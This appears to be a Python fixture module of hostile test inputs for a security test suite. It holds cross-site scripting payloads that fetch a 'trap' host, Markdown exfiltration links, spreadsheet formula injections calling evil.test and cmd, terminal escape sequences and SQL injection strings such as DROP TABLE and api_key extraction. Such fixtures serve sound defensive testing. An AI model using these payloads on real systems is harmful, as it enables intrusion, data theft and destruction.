"""Texts that do something when a page, a spreadsheet or a terminal takes them for more than text."""

# Sets an attribute that nothing else sets, and asks the trap.
ATTACK = "document.documentElement.setAttribute('data-pwned','1');fetch('{trap}/script')"


def scripts(trap):
    """HTML that runs a script, or fetches, where it is taken for HTML."""
    attack = ATTACK.format(trap=trap)
    handlers = [
        f'{name}="{attack}"'
        for name in ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onbegin", "onpageshow")
    ]
    elements = [
        "img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe",
        "marquee",
        "select autofocus", "textarea autofocus", "math", "object data=x", "embed src=x", "style", "a href=#",
    ]
    found = [f"<{element} {handler}>" for element in elements for handler in handlers[:5]]
    found += [
        f"<script>{attack}</script>", f"<ScRiPt >{attack}</sCrIpT>", f"<script src='{trap}/s.js'></script>", "<script>",
        f"<<script>{attack}//<</script>", f"<scr<script>ipt>{attack}</script>", f"</script><script>{attack}</script>",
        f"</style><script>{attack}</script>", f"</title><script>{attack}</script>",
        f"</textarea><script>{attack}</script>",
        f"--><script>{attack}</script><!--", f"]]><script>{attack}</script>", f"'\"><script>{attack}</script>",
        f"\"onmouseover={attack}//", f"<a href=\"javascript:{attack}\">x</a>",
        f"<a href=\"java\tscript:{attack}\">x</a>",
        f"<a href=\"&#106;avascript:{attack}\">x</a>", f"<iframe srcdoc=\"<script>{attack}</script>\">",
        f"<iframe src=\"javascript:{attack}\">", f"<form action=\"{trap}/form\"><input type=submit>",
        f"<base href=\"{trap}/\">",
        f"<meta http-equiv=refresh content=\"0;url={trap}/refresh\">", f"<link rel=stylesheet href=\"{trap}/c.css\">",
        f"<link rel=prefetch href=\"{trap}/prefetch\">", f"<style>@import '{trap}/import.css';</style>",
        f"<div style=\"background:url({trap}/css)\">", f"<object data=\"{trap}/object\">",
        f"<embed src=\"{trap}/embed\">",
        f"<svg><script>{attack}</script></svg>", f"<svg><use href=\"{trap}/x.svg#a\"/></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{attack}\">",
        f"<noscript><p title=\"</noscript><img src=x onerror='{attack}'>\">",
        f"<svg><animate onbegin=\"{attack}\" attributeName=x dur=1s>",
        f"<template><script>{attack}</script></template>",
        f"<img src=\"{trap}/img\">", f"<img srcset=\"{trap}/srcset 1x\">",
        f"<picture><source srcset=\"{trap}/source\"><img></picture>",
        f"<video poster=\"{trap}/poster\"></video>", f"<input type=image src=\"{trap}/input\">",
        f"<table background=\"{trap}/table\">",
        f"\u2028<script>{attack}</script>", f"<\x00script>{attack}</script>", f"&lt;script&gt;{attack}&lt;/script&gt;",
        f"\ufeff<script>{attack}</script>", f"+ADw-script+AD4-{attack}", f"${{{attack}}}",
        f"{{{{constructor.constructor('{attack}')()}}}}",
    ]
    return found


def markdown(trap):
    """Markdown that fetches, or leads elsewhere than it says."""
    attack = ATTACK.format(trap=trap)
    return [
        f"![x]({trap}/md?d=secret)", f"![x][r]\n\n[r]: {trap}/reference", f"[![x]({trap}/inner)]({trap}/outer)",
        f"![x](<{trap}/angle>)", f"![x]({trap}/title \"t\")", f"<img src=\"{trap}/html\">", f"[x](javascript:{attack})",
        f"[x](JaVaScRiPt:{attack})", f"[x](data:text/html,<script>{attack}</script>)", "[x](vbscript:msgbox)",
        f"[x](java\nscript:{attack})", f"[x](&#106;avascript:{attack})", f"[x]({trap}/a\"onmouseover=\"{attack})",
        f"[x](//127.0.0.1{trap[16:]}/scheme)", "[x](file:///etc/passwd)", f"<{trap}/autolink>", f"{trap}/bare",
        f"<javascript:{attack}>", f"[x]: javascript:{attack}\n\n[x]",
        f"![x](data:image/svg+xml,<svg onload=\"{attack}\">)",
        f"```html\n<script>{attack}</script>\n```", f"`<script>{attack}</script>`",
        f"| a |\n|---|\n| <script>{attack}</script> |",
        f"> <script>{attack}</script>", f"1. <img src=x onerror=\"{attack}\">",
        f"[^1]\n\n[^1]: <script>{attack}</script>",
        f"<details><summary>x</summary><img src=\"{trap}/details\"></details>",
        f"<!-- {trap}/comment --><script>{attack}</script>",
        f"```\n</code></pre><script>{attack}</script>\n```", f"[{trap}/shown](https://elsewhere.test/real)",
        f"~~<script>{attack}</script>~~", f"- [ ] <script>{attack}</script>", f"\\<script>{attack}</script>",
        "[" * 3_000 + "](" * 3_000,
        f"<style>*{{background:url({trap}/style)}}</style>", f"<link rel=preload href={trap}/preload as=image>",
    ]


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.test\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://evil.test/\",A1),\"//a\")", "-2+3+cmd|' /C calc'!D2", "@\"=1\"", "=\"\"", "+", "-", "=",
]

# What a terminal obeys; each has a word in it by which it is found again.
TERMINAL = [
    "\x1b]52;c;Q0FOQVJZ\x07clipboard", "\x1b]8;;http://evil.test\x1b\\hyperlink\x1b]8;;\x1b\\", "\x1b[2Jclear",
    "\x1b[31mred",
    "\x1b]0;titled\x07", "\x1bP+q544e\x1b\\termcap", "\x1b[6nreport", "\x1b[?1049halternate", "bell\x07",
    "back\b\b\b\bspace",
    "over\rwritten", "\x9b31mcsi", "\x9d52;c;Q0FO\x9cosc", "\u202egnp.exe", "\u2066isolate\u2069", "\u200bzero",
    "\ufeffmark",
    "\u200eleft\u200fright", "\u061carabic", "\u2028line", "\x0cform", "\x0bvertical", "\x7fdelete", "\x00null", "\x1b",
    "\x85next",
]

SQL = [
    "'", "''", "\"", "`", ";", "\\", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "'; DROP TABLE person;--",
    "1; DELETE FROM item",
    "' UNION SELECT name,sql,1,1,1 FROM sqlite_schema--", "') OR ('1'='1", "%", "_", "%%%", "%' OR title LIKE '%",
    "\\%",
    "' || (SELECT digest FROM api_key) || '", "1 OR 1=1", "1/0", "-1", "9223372036854775808", "-9223372036854775809",
    "1e400",
    "NaN", "0x41", "null", "NULL", "true", "[]", "{}", "?1", ":a", "$1", "@x", "/**/", "--", "#", "\x00", "a\x00b",
    "😀'", "’",
    "ʼ", "％", "＇", "' AND randomblob(1000000000)--", "' AND (SELECT count(*) FROM item a, item b, item c)--",
    "load_extension('x')",
    "'||char(39)||'", "PRAGMA user_version", "ATTACH 'x' AS y", "\n", "\t", "\r\n", " ", "𠀀", "a" * 600,
]

# What FTS5 by itself answers with an error, and what takes it long.
SEARCHES = [
    "\"", "NEAR(", "x:", "a^", "*", "a*b*c*", "(", ")", "()", "AND", "OR", "NOT", "AND AND", "a AND", "NOT a", "-",
    "- -", "^a",
    "{a b}:c", "\"a\" + \"b\"", "a NEAR/3 b", "col:a", "\"unclosed", "天\"", "天*", "*天", "a\x00b", "role:", "in:",
    "before:x",
    "after:9999-99-99", "tag:\"", "has:", "(" * 200, "a OR " * 100, "\"" * 101, "* " * 100, "天" * 170, "\\", "'", "a-b",
    "--a",
]
